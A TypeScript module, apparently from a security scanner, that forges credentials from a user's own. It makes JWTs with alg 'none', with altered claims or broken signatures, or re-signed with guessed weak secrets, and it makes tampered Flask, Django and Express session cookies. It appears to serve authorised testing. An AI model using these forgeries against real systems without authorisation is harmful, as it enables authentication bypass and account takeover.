import { type Json, ScanError } from '@middlebrick/model';
import { formatCookies, parseCookies } from './cookies.ts';
import { breakSignature, isHmacAlgorithm, type Jwt, parseJwt, resealJwt, signJwt, unsignedJwt } from './jwt.ts';
import { findSecret, hintsOf, secretCandidates } from './jwt-secrets.ts';
import { applyChanges, type Changes, changeClaims } from './payload.ts';
import { findSessionSecret, forgeSession, recognise, type SessionKind } from './session.ts';

/** The ways to make a credential anew out of one's own. The names are those of `middlebrick forge <recipe>`. */
export const forgeRecipes = {
  'jwt-alg-none': 'A token without a signature.',
  'jwt-claims': 'Other claims under the old signature.',
  'jwt-broken-signature': 'The same claims under a signature that no key made.',
  'jwt-weak-secret': 'A token signed with the guessable secret of the old one.',
  'jwt-expired': 'A token that expired in the year 2000, signed with the guessable secret of the old one.',
  'jwt-not-yet-valid': 'A token that becomes valid in the year 2100, signed with the guessable secret of the old one.',
  session: 'A session cookie with other data: unsigned, or signed with its guessable secret.',
  'flask-session': 'The same, for Flask.',
  'django-session': 'The same, for Django.',
  'express-session': 'The same, for Express and cookie-session.',
} as const;
export type RecipeName = keyof typeof forgeRecipes;

export interface ForgeRecipe {
  name: RecipeName;
  /** New values by path of the claim or of the session's datum. */
  changes: Changes;
  /** `jwt-alg-none`: how the algorithm is spelt. */
  algorithm?: string;
  /** Names of the target that its secret may be made of, such as its host name. */
  hints?: readonly string[];
}

/** 2000-01-01T00:00:00Z in seconds: long past for every server, whatever its clock. */
const longPast = 946_684_800;
/** 2100-01-01T00:00:00Z in seconds. */
const farFuture = 4_102_444_800;

const sessionKinds: Partial<Record<RecipeName, readonly SessionKind[]>> = {
  'flask-session': ['flask'],
  'django-session': ['django'],
  'express-session': ['express', 'keygrip'],
};

/**
 * Makes a credential out of the caller's own, without asking anybody: secrets are searched offline.
 *
 * @param clear the caller's own credential: a token, the value of a session cookie, or a whole Cookie header
 *   (`name=value; …`), in which the first fitting cookie is replaced and the rest kept.
 * @throws ScanError `BAD_ARGUMENT` when the credential is not of the recipe's kind or its secret is not guessable.
 */
export function forgeCredential(recipe: ForgeRecipe, clear: string): string {
  if (!Object.hasOwn(forgeRecipes, recipe.name)) throw bad(`There is no recipe ${JSON.stringify(recipe.name)}.`);
  const text = clear.trim();
  return recipe.name.startsWith('jwt-') ? forgeTokenIn(recipe, text) : forgeSessionIn(recipe, text);
}

/** Claims past their end, whatever the clock: for `exp`, with the issue an hour before. */
export function expiredClaims(jwt: Jwt): Jwt['claims'] {
  const issued = Object.fromEntries(
    ['iat', 'nbf'].filter((name) => name in jwt.claims).map((name) => [name, longPast - 3600]),
  );
  return { ...jwt.claims, ...issued, exp: longPast };
}

/** Claims before their beginning, with an end after it when there was one. */
export function prematureClaims(jwt: Jwt): Jwt['claims'] {
  return { ...jwt.claims, nbf: farFuture, ...('exp' in jwt.claims ? { exp: farFuture + 3600 } : {}) };
}

function forgeTokenIn(recipe: ForgeRecipe, text: string): string {
  const token = parseJwt(text);
  if (token !== undefined) return forgeToken(recipe, token);

  const cookies = parseCookies(text);
  const found = Object.entries(cookies).find(([, value]) => parseJwt(value) !== undefined);
  const inCookie = found && parseJwt(found[1]);
  if (found === undefined || inCookie === undefined) throw bad('The credential is not a JSON Web Token.');
  return formatCookies({ ...cookies, [found[0]]: forgeToken(recipe, inCookie) });
}

function forgeToken(recipe: ForgeRecipe, token: Jwt): string {
  const claims = changeClaims(token.claims, recipe.changes);
  switch (recipe.name) {
    case 'jwt-alg-none':
      return unsignedJwt(token.header, claims, recipe.algorithm);
    case 'jwt-claims':
      return resealJwt(token, claims);
    case 'jwt-broken-signature':
      return breakSignature({ ...token, signingInput: resealJwt(token, claims).split('.', 2).join('.') });
    case 'jwt-expired':
      return signAgain(recipe, token, expiredClaims({ ...token, claims }));
    case 'jwt-not-yet-valid':
      return signAgain(recipe, token, prematureClaims({ ...token, claims }));
    default:
      return signAgain(recipe, token, claims);
  }
}

function signAgain(recipe: ForgeRecipe, token: Jwt, claims: Jwt['claims']): string {
  const algorithm = token.header.alg;
  const candidates = secretCandidates([...(recipe.hints ?? []), ...hintsOf(token.claims)]);
  const found = findSecret(token.signingInput, token.signature, algorithm, candidates);
  if (found === undefined || !isHmacAlgorithm(algorithm))
    throw bad('The secret of this token is not among the guessable ones.');
  return signJwt(token.header, claims, algorithm, found.key);
}

function forgeSessionIn(recipe: ForgeRecipe, text: string): string {
  const asHeader = parseCookies(text);
  const kinds = sessionKinds[recipe.name];
  // A bare value is taken for a cookie without a name; what looks like a header is tried as one first.
  for (const [cookies, isBare] of [
    [asHeader, false],
    [{ session: text }, true],
  ] as const) {
    for (const [name, value] of Object.entries(cookies)) {
      const forged = forgeCookie(
        recipe,
        recognise(name, value, cookies).filter((format) => kinds?.includes(format.kind) ?? true),
      );
      if (forged !== undefined)
        return isBare ? (Object.values(forged)[0] ?? '') : formatCookies({ ...cookies, ...forged });
    }
  }
  throw bad('No cookie of this credential is a session that can be forged.');
}

function forgeCookie(recipe: ForgeRecipe, formats: ReturnType<typeof recognise>): Record<string, string> | undefined {
  const candidates = secretCandidates(recipe.hints);
  for (const format of formats) {
    const secret = findSessionSecret(format, candidates);
    if (format.seal !== undefined && secret === undefined) continue;
    const payload: Json = applyChanges(format.payload, recipe.changes);
    return forgeSession(format, secret, payload);
  }
  return undefined;
}

function bad(message: string): ScanError {
  return new ScanError('BAD_ARGUMENT', message);
}
